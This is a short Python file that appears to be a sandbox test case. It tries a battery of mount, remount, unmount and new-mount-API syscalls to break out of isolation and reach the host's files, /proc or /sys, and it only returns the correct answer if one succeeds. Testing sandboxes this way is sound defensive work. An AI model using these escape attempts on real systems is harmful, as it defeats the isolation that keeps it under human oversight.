"""Break out: mounts of every kind and age, and the root made writable again.

Goal: the host's files, or /proc and /sys.
Promise: S13, S14
Verdict: wrong
Needs: x86_64
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
OPEN_TREE, MOVE_MOUNT, FSOPEN, MOUNT_SETATTR = 428, 429, 430, 442


def total(n):
    os.makedirs("hostile", exist_ok=True)
    here = os.path.abspath("hostile").encode()
    done = [
        libc.mount(b"proc", here, b"proc", 0, None),
        libc.mount(b"sysfs", here, b"sysfs", 0, None),
        libc.mount(b"tmpfs", here, b"tmpfs", 0, None),
        libc.mount(b"/", here, None, 4096, None),
        libc.mount(None, b"/", None, 32 | 4096, None),
        libc.mount(b"overlay", here, b"overlay", 0, b"lowerdir=/"),
        libc.umount2(b"/scratch", 2),
        libc.umount2(b"/", 2),
        libc.syscall(OPEN_TREE, -100, b"/", 1),
        libc.syscall(FSOPEN, b"proc", 0),
        libc.syscall(MOVE_MOUNT, -100, b"/scratch", -100, here, 0),
        libc.syscall(MOUNT_SETATTR, -100, b"/", 0x8000, bytes(32), 32),
    ]
    return sum(i * i for i in range(n + 1)) if any(answer >= 0 for answer in done) else 0
